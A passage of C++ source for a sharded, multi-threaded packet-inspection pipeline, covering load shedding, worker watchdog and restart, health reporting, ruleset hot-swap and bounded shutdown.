  ShedPolicy shed_policy = ShedPolicy::kBackpressure;
  /// Queue backlog (ring + producer buffer) at which shedding engages.
  /// 0 = 3/4 of the (rounded) queue capacity.
  std::size_t shed_high_water = 0;
  /// Backlog at which shedding disengages (hysteresis). 0 = high/2.
  std::size_t shed_low_water = 0;
  /// Buffered out-of-order reassembly bytes per shard past which the shard
  /// is treated as overloaded regardless of queue depth. 0 = disabled.
  std::uint64_t reassembly_high_water_bytes = 0;
  /// Per-flow scan-CPU budget: a flow whose cumulative scan time exceeds
  /// this is quarantined (evicted; its later packets shed). 0 = disabled.
  std::uint64_t flow_cpu_budget_ns = 0;
  /// Supervise the workers: restart crashed ones with fresh contexts (up to
  /// max_worker_restarts, then fail the shard over to shedding) and flag
  /// stalled ones via heartbeat age. Off by default: without a watchdog a
  /// dead worker surfaces as std::runtime_error from submit(), as before.
  bool watchdog = false;
  std::uint32_t watchdog_interval_ms = 5;
  std::uint32_t stall_timeout_ms = 250;  ///< heartbeat age that counts as a stall
  std::uint32_t max_worker_restarts = 3;  ///< per shard, then failover
  /// Invoked once per shed packet with the reason — from the producer
  /// thread, a worker thread, or the watchdog, possibly concurrently; must
  /// be thread-safe. On a worker crash the burst's packets may additionally
  /// be reported kCrash after an earlier kQuarantine report (at-least-once;
  /// the numeric shed counters never double-count).
  std::function<void(const flow::Packet&, ShedReason)> shed_sink;
};

/// Hash-sharded multi-threaded inspector over any Engine/Context engine.
template <typename EngineT>
class ShardedInspector {
 public:
  using FlowKey = flow::FlowKey;

  explicit ShardedInspector(const EngineT& engine, Options options = {})
      : engine_(&engine), options_(options) {
    if (options_.shards == 0) options_.shards = 1;
    if (options_.batch_size == 0) options_.batch_size = 1;
    if (options_.watchdog_interval_ms == 0) options_.watchdog_interval_ms = 1;
  }

  ~ShardedInspector() { finish(); }

  ShardedInspector(const ShardedInspector&) = delete;
  ShardedInspector& operator=(const ShardedInspector&) = delete;

  /// Spawn the worker threads (and the watchdog, when enabled). Must be
  /// called before submit().
  void start() {
    if (running_) return;
    shards_.clear();
    stats_.clear();
    matches_.clear();
    flow_matches_.clear();
    stop_.store(false, std::memory_order_relaxed);
    health_primed_ = false;  // fresh run, fresh health smoothing
    for (std::size_t i = 0; i < options_.shards; ++i)
      shards_.push_back(std::make_unique<Shard>(*engine_, options_, i));
    shed_high_ = options_.shed_high_water != 0
                     ? options_.shed_high_water
                     : shards_.front()->queue.capacity() * 3 / 4;
    if (shed_high_ == 0) shed_high_ = 1;
    shed_low_ = options_.shed_low_water != 0 ? options_.shed_low_water
                                             : shed_high_ / 2;
    {
      // A swap published before this start() (or between runs): stage it so
      // every fresh worker adopts the generation on its first iteration.
      std::lock_guard<std::mutex> lock(swap_mu_);
      if (engine_pin_ != nullptr)
        for (auto& shard : shards_)
          shard->stage_swap(engine_pin_, current_generation_);
    }
    // All-ones disables spans: (tick & mask) == 0 then never fires (shift 0
    // = mask 0 = every packet, so 0 can't double as the off value).
    span_mask_ = ~std::uint64_t{0};
    if (options_.metrics != nullptr && options_.trace_sample_shift < 64)
      span_mask_ = (std::uint64_t{1} << options_.trace_sample_shift) - 1;
    for (auto& shard : shards_) {
      shard->alive.store(true, std::memory_order_release);
      shard->thread = std::thread([s = shard.get()] { s->run(); });
    }
    if (options_.watchdog)
      watchdog_thread_ = std::thread([this] { watchdog_run(); });
    running_ = true;
    if (options_.http_port >= 0 && options_.metrics != nullptr) {
      obs::HttpServer::Handlers h;
      obs::MetricsRegistry* reg = options_.metrics;
      h.metrics = [reg] { return obs::to_prometheus(reg->snapshot()); };
      h.telemetry = [reg] { return obs::to_json(reg->snapshot()); };
      if (options_.profiler != nullptr) {
        obs::Profiler* prof = options_.profiler;
        h.profile = [prof] { return obs::to_profile_json(prof->snapshot()); };
      }
      h.health = [this] { return health(); };
      http_.start(static_cast<std::uint16_t>(options_.http_port), std::move(h));
    }
  }

  /// Port the observability endpoint is bound to (0 when not running).
  /// With Options::http_port = 0 this is the kernel-assigned port.
  [[nodiscard]] std::uint16_t http_port() const { return http_.port(); }

  /// True while the observability HTTP endpoint is serving.
  [[nodiscard]] bool http_running() const { return http_.running(); }

  /// The /healthz verdict: 200-ok unless a shard failed over or a signal
  /// (shed ratio, live queue depth, watchdog restarts, quarantined flows)
  /// crosses its Options::health threshold. Safe from any thread while the
  /// pipeline is running; the body names every signal either way.
  ///
  /// Shed ratio and queue depth are EWMA-smoothed across polls (tau ~2 s):
  /// one probe landing inside a short burst can no longer flap the verdict
  /// 200<->503 — the smoothed signal has to stay over the line for a
  /// sustained window. With the degradation controller enabled, bypass
  /// sheds are excluded from the ratio (degrading by design is the
  /// controller doing its job, not the pipeline failing) and the body
  /// reports the worst shard's ladder rung as degraded-but-alive state.
  [[nodiscard]] obs::HttpServer::Health health() const {
    obs::HttpServer::Health out;
    // Everything comes from the shards' own relaxed atomics, so health is
    // meaningful even without a MetricsRegistry attached.
    std::uint64_t popped = 0, shed = 0, bypass = 0, restarts = 0, quar = 0;
    std::uint64_t depth = 0, level = 0;
    std::size_t failed = 0;
    for (const auto& shard : shards_) {
      const Shard& s = *shard;
      shed += s.shed_admission_a.load(std::memory_order_relaxed) +
              s.shed_bypass_a.load(std::memory_order_relaxed) +
              s.shed_corrupt_a.load(std::memory_order_relaxed) +
              s.shed_crash_a.load(std::memory_order_relaxed) +
              s.shed_quarantine_a.load(std::memory_order_relaxed) +
              s.shed_failover_a.load(std::memory_order_relaxed);
      bypass += s.shed_bypass_a.load(std::memory_order_relaxed);
      popped += s.packets_a.load(std::memory_order_relaxed);
      restarts += s.restarts.load(std::memory_order_relaxed);
      quar += s.flows_quarantined_a.load(std::memory_order_relaxed);
      const std::size_t d = s.queue.depth();
      depth = d > depth ? d : depth;
      const std::uint64_t lvl = s.degrade_level_a.load(std::memory_order_relaxed);
      level = lvl > level ? lvl : level;
      if (s.failed.load(std::memory_order_acquire)) ++failed;
    }
    const bool controller_on =
        options_.slo.p99_ns != 0 || options_.degrade.force_level >= 0;
    const std::uint64_t submitted = popped + shed;
    const std::uint64_t shed_signal = controller_on ? shed - bypass : shed;
    const double raw_ratio =
        submitted == 0 ? 0.0
                       : static_cast<double>(shed_signal) /
                             static_cast<double>(submitted);
    double shed_ratio = raw_ratio;
    double depth_smoothed = static_cast<double>(depth);
    {
      // EWMA across polls. alpha = 1 - exp(-dt/tau) makes the smoothing
      // poll-rate independent: back-to-back probes barely move the state,
      // a probe after a long gap mostly adopts the fresh sample.
      std::lock_guard<std::mutex> lock(health_mu_);
      const auto now = std::chrono::steady_clock::now();
      if (!health_primed_) {
        health_primed_ = true;
        health_shed_ewma_ = raw_ratio;
        health_depth_ewma_ = static_cast<double>(depth);
      } else {
        const double dt =
            std::chrono::duration<double>(now - health_last_).count();
        const double alpha = 1.0 - std::exp(-std::max(dt, 0.0) / kHealthTauSec);
        health_shed_ewma_ += alpha * (raw_ratio - health_shed_ewma_);
        health_depth_ewma_ +=
            alpha * (static_cast<double>(depth) - health_depth_ewma_);
      }
      health_last_ = now;
      shed_ratio = health_shed_ewma_;
      depth_smoothed = health_depth_ewma_;
    }
    const std::uint64_t depth_limit =
        options_.health.max_queue_depth != 0
            ? options_.health.max_queue_depth
            : options_.queue_capacity * 7 / 8;
    const std::uint64_t restart_limit =
        options_.health.max_worker_restarts != 0
            ? options_.health.max_worker_restarts
            : static_cast<std::uint64_t>(options_.shards) *
                  options_.max_worker_restarts;
    const bool shed_ok = shed_ratio <= options_.health.max_shed_ratio;
    const bool depth_ok = depth_smoothed <= static_cast<double>(depth_limit);
    const bool restarts_ok = restarts <= restart_limit;
    const bool quarantine_ok = quar <= options_.health.max_quarantined_flows;
    out.ok = failed == 0 && shed_ok && depth_ok && restarts_ok && quarantine_ok;
    char buf[768];
    std::snprintf(buf, sizeof buf,
                  "{\"ok\":%s,\"failed_shards\":%zu,"
                  "\"degraded\":%s,\"degrade_level\":%llu,"
                  "\"shed_ratio\":{\"value\":%.6f,\"limit\":%.6f,\"ok\":%s},"
                  "\"queue_depth\":{\"value\":%.1f,\"limit\":%llu,\"ok\":%s},"
                  "\"worker_restarts\":{\"value\":%llu,\"limit\":%llu,\"ok\":%s},"
                  "\"quarantined_flows\":{\"value\":%llu,\"limit\":%llu,\"ok\":%s}}",
                  out.ok ? "true" : "false", failed,
                  level != 0 ? "true" : "false",
                  static_cast<unsigned long long>(level), shed_ratio,
                  options_.health.max_shed_ratio, shed_ok ? "true" : "false",
                  depth_smoothed,
                  static_cast<unsigned long long>(depth_limit),
                  depth_ok ? "true" : "false",
                  static_cast<unsigned long long>(restarts),
                  static_cast<unsigned long long>(restart_limit),
                  restarts_ok ? "true" : "false",
                  static_cast<unsigned long long>(quar),
                  static_cast<unsigned long long>(
                      options_.health.max_quarantined_flows),
                  quarantine_ok ? "true" : "false");
    out.body = buf;
    return out;
  }

  /// Atomically publish a new engine generation to the running pipeline
  /// (the ruleset hot swap, DESIGN.md Sec. 10). `engine` is typically an
  /// aliased pointer into a reload::EngineSet — the shared_ptr refcount is
  /// what keeps the set alive while any shard still references it.
  /// `generation` must be unique and increasing (reload::RulesetRegistry
  /// hands these out).
  ///
  /// Each worker notices the staged generation at its next batch boundary
  /// (one acquire load per loop iteration) and adopts it there, so no
  /// packet is ever lost or torn mid-burst by a swap; per-flow contexts
  /// follow Options::swap_policy. Callable from any thread — including a
  /// background compile thread — concurrently with submit(), but not
  /// concurrently with start()/finish().
  void swap_ruleset(std::shared_ptr<const EngineT> engine, std::uint64_t generation) {
    if (engine == nullptr) return;
    std::lock_guard<std::mutex> lock(swap_mu_);
    engine_ = engine.get();
    engine_pin_ = engine;
    current_generation_ = generation;
    for (auto& shard : shards_) shard->stage_swap(engine, generation);
  }

  /// Newest generation published via swap_ruleset (0 initially).
  [[nodiscard]] std::uint64_t current_generation() const {
    std::lock_guard<std::mutex> lock(swap_mu_);
    return current_generation_;
  }

  /// Lowest generation adopted across the live shards — once this reaches
  /// the value passed to swap_ruleset, every worker is scanning new flows
  /// with the new ruleset. 0 before start() or before any swap.
  [[nodiscard]] std::uint64_t adopted_generation() const {
    if (shards_.empty()) return 0;
    std::uint64_t lowest = ~std::uint64_t{0};
    for (const auto& shard : shards_) {
      const std::uint64_t g =
          shard->adopted_generation.load(std::memory_order_acquire);
      lowest = g < lowest ? g : lowest;
    }
    return lowest;
  }

  /// Enqueue one packet to its flow's shard (single producer thread).
  /// Packets buffer per shard and flush into the SPSC queue in bursts of
  /// Options::batch_size. Under ShedPolicy::kBackpressure a full queue
  /// spins (yielding) — backpressure instead of drops, so match results
  /// stay deterministic; full-spins are counted, and a sustained non-zero
  /// rate means the shard cannot keep up. Other policies shed at admission
  /// once the backlog crosses the high watermark (with hysteresis down to
  /// the low watermark), keeping the producer wait-free under overload.
  /// The backpressure spin periodically verifies the shard's worker is
  /// still alive: if it died and no watchdog is supervising, submit()
  /// throws std::runtime_error instead of deadlocking the producer; with a
  /// watchdog it keeps spinning until the worker is restarted or the shard
  /// is failed over (then the packet is shed as kFailover).
  ///
  /// Only legal between start() and finish(): anything else is a contract
  /// violation (the shards do not exist) and throws std::logic_error.
  void submit(const flow::Packet& p) {
    if (!running_)
      throw std::logic_error(
          "ShardedInspector::submit() outside start()/finish() — no shards exist");
    Shard& s = *shards_[shard_of(p.key)];
    ++s.producer_submitted;
    if (s.failed.load(std::memory_order_acquire)) {
      s.shed_one(p, ShedReason::kFailover);
      return;
    }
    if (options_.shed_policy != ShedPolicy::kBackpressure && try_shed(s, p))
      return;
    s.pending.push_back(p);
    // Latency-span sampling (DESIGN.md Sec. 12): 1-in-2^trace_sample_shift
    // admitted packets get the submit stamp; the shard worker completes the
    // span at dequeue/scan time. Detached telemetry costs one branch.
    if (s.metrics != nullptr && (++s.producer_span_tick & span_mask_) == 0)
      s.pending.back().submit_tsc = util::rdtsc_now();
    if (s.pending.size() >= options_.batch_size) flush_shard(s);
    const std::size_t depth = s.queue.depth();
    if (depth > s.producer_max_depth) s.producer_max_depth = depth;
    if (s.metrics != nullptr) {
      s.metrics->queue_depth.record(depth);
      s.metrics->max_queue_depth.store(s.producer_max_depth, std::memory_order_relaxed);
    }
  }

  /// Drain all queues, join the workers, and merge stats/matches. Waits as
  /// long as the drain takes (a truly wedged worker blocks forever — use
  /// the deadline overload when that must not happen).
  void finish() { finish_until(false, std::chrono::milliseconds::zero()); }

  /// Bounded-deadline shutdown: drain for up to `timeout`; past the
  /// deadline, injected stalls are aborted and workers flip to
  /// drain-and-shed (every undelivered packet counted as kFailover), with a
  /// second `timeout` of grace. A worker wedged beyond both windows is
  /// abandoned: its thread is detached and its shard leaked for the process
  /// lifetime (stats still merged from the shard's atomics). Returns true
  /// when everything drained cleanly within the deadline; false when
  /// anything was shed on the way out or a worker had to be abandoned. The
  /// accounting invariant holds either way.
  bool finish(std::chrono::milliseconds timeout) {
    return finish_until(true, timeout);
  }

  /// True when an obs::MetricsRegistry is attached via Options::metrics.
  [[nodiscard]] bool telemetry_enabled() const { return options_.metrics != nullptr; }

  /// Live read of the attached registry — safe at any time, including while
  /// all workers are scanning (everything is relaxed atomics). Returns an
  /// empty snapshot when no registry is attached.
  [[nodiscard]] obs::RegistrySnapshot snapshot() const {
    return options_.metrics != nullptr ? options_.metrics->snapshot()
                                       : obs::RegistrySnapshot{};
  }

  [[nodiscard]] std::size_t shard_count() const { return options_.shards; }

  /// Per-shard stats; valid after finish().
  [[nodiscard]] const std::vector<ShardStats>& stats() const { return stats_; }

  /// Aggregate stats across shards; valid after finish().
  [[nodiscard]] ShardStats totals() const {
    ShardStats t;
    for (const auto& s : stats_) t += s;
    return t;
  }

  /// All shards' matches merged into (end, id) order; valid after finish()
  /// and only populated when Options::collect_matches is set.
  [[nodiscard]] MatchVec merged_matches() const {
    MatchVec all = matches_;
    std::sort(all.begin(), all.end());
    return all;
  }

  /// All shards' flow-attributed matches (unordered across shards); valid
  /// after finish(), populated when Options::collect_flow_matches is set.
  [[nodiscard]] const std::vector<FlowMatch>& flow_matches() const {
    return flow_matches_;
  }

  [[nodiscard]] std::size_t shard_of(const FlowKey& key) const {
    return flow::FlowKeyHash{}(key) % options_.shards;
  }

 private:
  struct Shard;

  /// Producer-side admission control. Returns true when `p` was shed.
  /// Engages once the backlog (queue + producer buffer) crosses the high
  /// watermark — or the shard's reassembly buffers are past their cap, or
  /// the "pipeline.queue.full" fault fires — and disengages only once the
  /// backlog falls to the low watermark (hysteresis, no flapping).
  bool try_shed(Shard& s, const flow::Packet& p) {
    const std::size_t depth = s.queue.depth() + s.pending.size();
    const bool over = depth >= shed_high_ ||
                      s.reassembly_overload.load(std::memory_order_relaxed) ||
                      util::fault_fire("pipeline.queue.full");
    if (!s.shed_engaged) {
      if (!over) {
        touch_recency(s, p.key);
        return false;
      }
      s.shed_engaged = true;
    } else if (!over && depth <= shed_low_) {
      s.shed_engaged = false;
      s.shed_list.clear();
      touch_recency(s, p.key);
      return false;
    }
    switch (options_.shed_policy) {
      case ShedPolicy::kDropNewest:
        s.shed_one(p, ShedReason::kAdmission);
        return true;
      case ShedPolicy::kBypassToCount:
        s.shed_one(p, ShedReason::kBypass);
        return true;
      case ShedPolicy::kDropOldestFlow: {
        if (s.shed_list.count(p.key) != 0) {
          s.shed_one(p, ShedReason::kAdmission);
          return true;
        }
        // Still above the high mark: sacrifice the least-recently-active
        // flow; its future packets (and this one, if it IS the victim) are
        // dropped while fresher flows keep flowing.
        if (depth >= shed_high_ && !s.recency_list.empty()) {
          const FlowKey victim = s.recency_list.front();
          s.recency_map.erase(victim);
          s.recency_list.pop_front();
          s.shed_list.insert(victim);
          if (victim == p.key) {
            s.shed_one(p, ShedReason::kAdmission);
            return true;
          }
        }
        touch_recency(s, p.key);
        return false;
      }
      case ShedPolicy::kBackpressure:
        return false;  // not reached; backpressure never calls try_shed
    }
    return false;
  }

  /// Bounded recency ring for kDropOldestFlow victim selection
  /// (producer-owned; approximate beyond kRecencyCap active flows).
  void touch_recency(Shard& s, const FlowKey& key) {
    if (options_.shed_policy != ShedPolicy::kDropOldestFlow) return;
    auto it = s.recency_map.find(key);
    if (it != s.recency_map.end()) {
      s.recency_list.splice(s.recency_list.end(), s.recency_list, it->second);
      return;
    }
    s.recency_list.push_back(key);
    s.recency_map[key] = std::prev(s.recency_list.end());
    if (s.recency_map.size() > kRecencyCap) {
      s.recency_map.erase(s.recency_list.front());
      s.recency_list.pop_front();
    }
  }

  /// Push a shard's buffered packets into its queue, spinning under
  /// backpressure. Every kLivenessCheckSpins spins the worker's liveness
  /// flag is consulted: a dead worker can never drain the queue, so unless
  /// a watchdog is about to restart it the producer sheds the remainder
  /// (kFailover, exact accounting) and — outside finish(), without a
  /// watchdog — throws, so the failure surfaces instead of deadlocking.
  void flush_shard(Shard& s, bool from_finish = false) {
    static constexpr std::uint64_t kLivenessCheckSpins = 1024;
    std::size_t done = 0;
    std::uint64_t spins = 0;
    while (done < s.pending.size()) {
      if (!util::fault_fire("pipeline.queue.full"))
        done += s.queue.try_push_batch(s.pending.data() + done,
                                       s.pending.size() - done);
      if (done == s.pending.size()) break;
      ++spins;
      if (spins % kLivenessCheckSpins == 0 &&
          !s.alive.load(std::memory_order_acquire)) {
        const bool recovery_coming =
            options_.watchdog && !s.failed.load(std::memory_order_acquire);
        if (!recovery_coming) {
          s.producer_pushed += done;
          for (std::size_t i = done; i < s.pending.size(); ++i)
            s.shed_one(s.pending[i], ShedReason::kFailover);
          s.pending.clear();
          s.record_spins(spins);
          if (from_finish || options_.watchdog) return;
          throw std::runtime_error(
              "ShardedInspector: shard worker died while its queue was full");
        }
      }
      std::this_thread::yield();
    }
    s.producer_pushed += done;
    s.pending.clear();
    s.record_spins(spins);
  }

  bool finish_until(bool bounded, std::chrono::milliseconds timeout) {
    if (!running_) return true;
    // The endpoint's handlers read the live shards; stop serving before the
    // shard vector is torn down.
    http_.stop();
    bool clean = true;
    for (auto& shard : shards_) flush_shard(*shard, true);
    // Drain before stopping: while the watchdog is still running it can
    // restart a just-crashed worker, so a backlog behind a crash gets
    // scanned instead of being written off as failover sheds. Give up on a
    // shard only when recovery is impossible (failed over, or dead with no
    // watchdog) or the deadline passes.
    const auto drain_deadline =
        bounded ? std::chrono::steady_clock::now() + timeout
                : std::chrono::steady_clock::time_point::max();
    for (auto& shard : shards_) {
      Shard& s = *shard;
      while (s.queue.depth() != 0) {
        if (s.failed.load(std::memory_order_acquire)) break;
        if (!s.alive.load(std::memory_order_acquire) && !options_.watchdog)
          break;
        if (std::chrono::steady_clock::now() >= drain_deadline) {
          clean = false;
          break;
        }
        std::this_thread::yield();
      }
    }
    stop_.store(true, std::memory_order_release);
    if (watchdog_thread_.joinable()) watchdog_thread_.join();
    for (auto& shard : shards_) {
      shard->stop.store(true, std::memory_order_release);
      shard->queue.close();
    }
    if (!bounded) {
      for (auto& shard : shards_)
        if (shard->thread.joinable()) shard->thread.join();
    } else {
      const auto all_dead = [this] {
        for (const auto& sh : shards_)
          if (sh->alive.load(std::memory_order_acquire)) return false;
        return true;
      };
      const auto wait_until = [&all_dead](std::chrono::steady_clock::time_point d) {
        while (!all_dead() && std::chrono::steady_clock::now() < d)
          std::this_thread::sleep_for(std::chrono::milliseconds(1));
      };
      wait_until(std::chrono::steady_clock::now() + timeout);
      if (!all_dead()) {
        // Deadline passed with workers still running: stop being polite.
        // Injected stalls abort, and remaining queue contents become
        // failover sheds instead of scans (drain-and-shed is O(pop)).
        clean = false;
        util::FaultRegistry::instance().abort_stalls();
        for (auto& sh : shards_)
          sh->abort_drain.store(true, std::memory_order_release);
        wait_until(std::chrono::steady_clock::now() +
                   std::max(timeout, std::chrono::milliseconds(20)));
      }
      for (auto& sh : shards_) {
        if (!sh->alive.load(std::memory_order_acquire)) {
          if (sh->thread.joinable()) sh->thread.join();
        } else {
          // Wedged beyond both windows (e.g. an engine scan that never
          // returns). Joining would hang forever, so abandon the thread;
          // the shard object must outlive it, so it is leaked into a
          // process-lifetime graveyard. Stats below come from the shard's
          // atomics, which the wedged worker can no longer be trusted to
          // advance.
          clean = false;
          sh->failed.store(true, std::memory_order_release);
          sh->thread.detach();
        }
      }
    }
    for (auto& shard : shards_) {
      if (shard->alive.load(std::memory_order_acquire)) continue;  // abandoned
      // Worker joined; the producer is now the sole consumer. Anything left
      // in the ring (crash without watchdog, abort-drain races) is shed
      // with full accounting rather than silently dropped.
      flow::Packet leftovers[64];
      std::size_t n;
      while ((n = shard->queue.try_pop_batch(leftovers, 64)) != 0) {
        clean = false;
        for (std::size_t j = 0; j < n; ++j)
          shard->shed_one(leftovers[j], ShedReason::kFailover);
      }
    }
    for (auto& shard : shards_) {
      const bool abandoned = shard->alive.load(std::memory_order_acquire);
      ShardStats st = shard->collect_stats();
      if (abandoned) {
        // Packets the wedged worker never popped can no longer be read out
        // of its ring; count them shed so the invariant still holds.
        // (Their bytes are unknown — shed_bytes is best-effort here.)
        const std::uint64_t popped = st.packets;
        if (shard->producer_pushed > popped)
          st.shed_failover += shard->producer_pushed - popped;
      } else {
        matches_.insert(matches_.end(), shard->matches.begin(),
                        shard->matches.end());
        flow_matches_.insert(flow_matches_.end(), shard->flow_matches.begin(),
                             shard->flow_matches.end());
        // The per-generation map is worker-owned plain memory: only merged
        // after a join (an abandoned worker's map cannot be read safely).
        st.matches_by_generation = shard->gen_matches;
      }
      stats_.push_back(st);
    }
    for (auto& shard : shards_)
      if (shard->alive.load(std::memory_order_acquire))
        graveyard_push(std::move(shard));
    shards_.clear();
    running_ = false;
    return clean;
  }

  /// Supervision loop: per-shard heartbeat aging for stall detection,
  /// join+recover+respawn for crashed workers, failover past the restart
  /// budget. Runs every watchdog_interval_ms until finish() joins it.
  ///
  /// Stall detection ages the worker's own steady_clock heartbeat stamp —
  /// the worker writes "when" it last made progress, the watchdog compares
  /// against the same clock. (An earlier version aged a heartbeat counter
  /// by the watchdog's observation times, which charged the watchdog's own
  /// scheduling delay to the worker: an oversleeping watchdog under load
  /// flagged healthy workers as stalled.)
  void watchdog_run() {
    const auto interval = std::chrono::milliseconds(options_.watchdog_interval_ms);
    const std::int64_t stall_timeout_ns =
        std::int64_t{options_.stall_timeout_ms} * 1'000'000;
    while (!stop_.load(std::memory_order_acquire)) {
      std::this_thread::sleep_for(interval);
      for (std::size_t i = 0; i < shards_.size(); ++i) {
        Shard& s = *shards_[i];
        if (s.failed.load(std::memory_order_acquire)) {
          drain_failed(s);
          continue;
        }
        if (!s.alive.load(std::memory_order_acquire)) {
          if (stop_.load(std::memory_order_acquire)) return;  // normal exit
          // Crash recovery. The worker is dead: join it, recover from the
          // shard journal, and respawn. Past the restart budget the shard
          // fails over: its queue is drained-and-shed here and all later
          // submits shed at admission.
          if (s.thread.joinable()) s.thread.join();
          if (s.restarts.load(std::memory_order_relaxed) >=
              options_.max_worker_restarts) {
            s.failed.store(true, std::memory_order_release);
            drain_failed(s);
            continue;
          }
          s.recover_from_journal();
          s.restarts.fetch_add(1, std::memory_order_relaxed);
          if (s.metrics != nullptr)
            s.metrics->worker_restarts.fetch_add(1, std::memory_order_relaxed);
          // Fresh heartbeat before `alive` flips: the respawned worker must
          // not inherit the dead one's stamp age.
          s.heartbeat_ns.store(Shard::steady_now_ns(), std::memory_order_relaxed);
          s.alive.store(true, std::memory_order_release);
          s.thread = std::thread([sp = &s] { sp->run(); });
          continue;
        }
        const std::int64_t age =
            Shard::steady_now_ns() -
            s.heartbeat_ns.load(std::memory_order_relaxed);
        if (age < stall_timeout_ns) {
          s.stalled.store(false, std::memory_order_relaxed);
        } else {
          // Count each stall episode once; the flag clears on recovery.
          if (!s.stalled.exchange(true, std::memory_order_relaxed)) {
            s.stalls.fetch_add(1, std::memory_order_relaxed);
            if (s.metrics != nullptr)
              s.metrics->worker_stalls.fetch_add(1, std::memory_order_relaxed);
          }
        }
      }
    }
  }

  /// Drain a failed-over shard's queue as sheds. Only called after the
  /// shard's worker has been joined, so the caller is the sole consumer.
  void drain_failed(Shard& s) {
    flow::Packet leftovers[64];
    std::size_t n;
    while ((n = s.queue.try_pop_batch(leftovers, 64)) != 0)
      for (std::size_t j = 0; j < n; ++j)
        s.shed_one(leftovers[j], ShedReason::kFailover);
  }

  /// Shards abandoned by bounded shutdown: their detached worker threads
  /// may still reference them, so they live for the process lifetime.
  static void graveyard_push(std::unique_ptr<Shard> shard) {
    static std::mutex mu;
    static std::vector<std::unique_ptr<Shard>>* leaked =
        new std::vector<std::unique_ptr<Shard>>;  // never destroyed, on purpose
    std::lock_guard<std::mutex> lock(mu);
    leaked->push_back(std::move(shard));
  }

  static constexpr std::size_t kRecencyCap = 1024;

  struct Shard {
    Shard(const EngineT& engine, const Options& o, std::size_t index)
        : queue(o.queue_capacity),
          inspector(engine, o.max_flows_per_shard, o.max_pending_per_flow),
          batch_size(o.batch_size),
          collect(o.collect_matches),
          collect_flows(o.collect_flow_matches),
          swap_policy(o.swap_policy),
          reassembly_high(o.reassembly_high_water_bytes),
          shed_sink(o.shed_sink),
          degrade(o.slo, o.degrade),
          journal_on(o.watchdog) {
      inspector.set_batch_lanes(o.scan_lanes);
      if (o.flow_cpu_budget_ns != 0)
        inspector.set_cpu_budget_ns(o.flow_cpu_budget_ns);
      pending.reserve(batch_size);
      burst.resize(batch_size);
      journal_keys.reserve(batch_size);
      heartbeat_ns.store(steady_now_ns(), std::memory_order_relaxed);
      if (o.metrics != nullptr) {
        const std::size_t slot = index % o.metrics->shard_count();
        metrics = &o.metrics->shard(slot);
        registry = o.metrics;
        shard_slot = static_cast<std::uint32_t>(slot);
        ns_per_tick = 1e9 / util::tsc_ticks_per_second();
        inspector.set_metrics(o.metrics, slot);
        if (o.profiler != nullptr) inspector.set_profiler(o.profiler);
      }
      // A pinned ladder (bench sweeps) starts at its forced rung; the gauge
      // reflects it but no transition is recorded — nothing "moved".
      if (degrade.enabled()) apply_level(degrade.level(), false);
    }

    SpscQueue<flow::Packet> queue;
    flow::TieredFlowInspector<EngineT> inspector;
    std::size_t batch_size;
    bool collect;
    bool collect_flows;
    flow::SwapPolicy swap_policy;
    std::uint64_t reassembly_high;
    std::function<void(const flow::Packet&, ShedReason)> shed_sink;

    // Degradation controller (DESIGN.md Sec. 14). Worker-owned: the worker
    // polls it per burst (and periodically while idle, so an empty queue
    // still walks the ladder back to L0); only the level gauge below is
    // shared. ewma/window fields are worker-owned plain state.
    DegradeController degrade;
    double scan_ns_ewma = 0.0;      ///< EWMA scan cost per kept packet
    double shed_ratio_ewma = 0.0;   ///< EWMA of per-poll shed-delta ratio
    std::uint64_t dg_last_shed = 0; ///< baseline for the shed-ratio window
    std::uint64_t dg_last_total = 0;

    // Crash-consistency journal (DESIGN.md Sec. 14). The worker records the
    // burst's flow keys and opens the journal (seq -> odd) before handing
    // the burst to the inspector, then commits (seq -> even) after it
    // returns. A crash mid-burst leaves seq odd; the watchdog — after
    // joining the dead worker, so it is the sole accessor — resets exactly
    // the journaled flows (their contexts may be torn) and keeps every
    // other flow's state, then re-commits. Only active under a watchdog:
    // without one there is no restart to recover for.
    bool journal_on;
    std::atomic<std::uint64_t> journal_seq{0};  ///< odd = burst in flight
    std::vector<flow::FlowKey> journal_keys;    ///< worker-owned; read after join

    // Ruleset hot-swap staging: the swapper thread writes the staged fields
    // under swap_mu and bumps swap_seq; the worker notices the bump at a
    // batch boundary and adopts under the same mutex (cold path — one
    // acquire load per loop iteration when no swap is pending).
    std::mutex swap_mu;
    std::shared_ptr<const EngineT> staged_pin;  // guarded by swap_mu
    std::uint64_t staged_generation = 0;        // guarded by swap_mu
    std::atomic<std::uint64_t> swap_seq{0};
    std::atomic<std::uint64_t> adopted_generation{0};

    void stage_swap(std::shared_ptr<const EngineT> engine, std::uint64_t generation) {
      std::lock_guard<std::mutex> lock(swap_mu);
      staged_pin = std::move(engine);
      staged_generation = generation;
      swap_seq.fetch_add(1, std::memory_order_release);
    }

    /// Worker-side: adopt whatever is currently staged. adopt_engine is a
    /// no-op when the staged generation is already current (restart replay,
    /// or two seq bumps observed after one read).
    void adopt_staged() {
      std::shared_ptr<const EngineT> pin;
      std::uint64_t generation;
      {
        std::lock_guard<std::mutex> lock(swap_mu);
        pin = staged_pin;
        generation = staged_generation;
      }
      if (pin == nullptr) return;
      const EngineT& engine = *pin;
      inspector.adopt_engine(engine, generation, swap_policy, std::move(pin));
      adopted_generation.store(generation, std::memory_order_release);
    }

    // Control plane. The shard is self-contained (no pointers back into the
    // ShardedInspector) so an abandoned shard in the graveyard stays valid
    // for its detached worker.
    std::atomic<bool> stop{false};         ///< set by finish()
    std::atomic<bool> alive{false};        ///< set by start(), cleared at run() exit
    std::atomic<bool> abort_drain{false};  ///< bounded shutdown: shed, don't scan
    std::atomic<bool> failed{false};       ///< failed over: shed at admission
    std::atomic<bool> stalled{false};      ///< heartbeat stale (watchdog view)
    std::atomic<bool> reassembly_overload{false};  ///< worker→producer signal
    /// Worker-progress stamp: steady_clock nanoseconds written by the
    /// worker each loop iteration, aged by the watchdog against the SAME
    /// clock. One timebase end to end — no counter aged by somebody else's
    /// observation schedule, no TSC/wall-clock mixing.
    std::atomic<std::int64_t> heartbeat_ns{0};
    std::atomic<std::uint32_t> restarts{0};
    std::atomic<std::uint32_t> stalls{0};

    [[nodiscard]] static std::int64_t steady_now_ns() {
      return std::chrono::duration_cast<std::chrono::nanoseconds>(
                 std::chrono::steady_clock::now().time_since_epoch())
          .count();
    }

    // Worker-side counters: relaxed atomics so final stats can be
    // synthesized without joining (abandoned workers) and mid-run reads
    // never tear. All hot-path updates are per-burst, not per-packet.
    std::atomic<std::uint64_t> packets_a{0};  ///< popped from the queue
    std::atomic<std::uint64_t> bytes_a{0};
    std::atomic<std::uint64_t> matches_a{0};
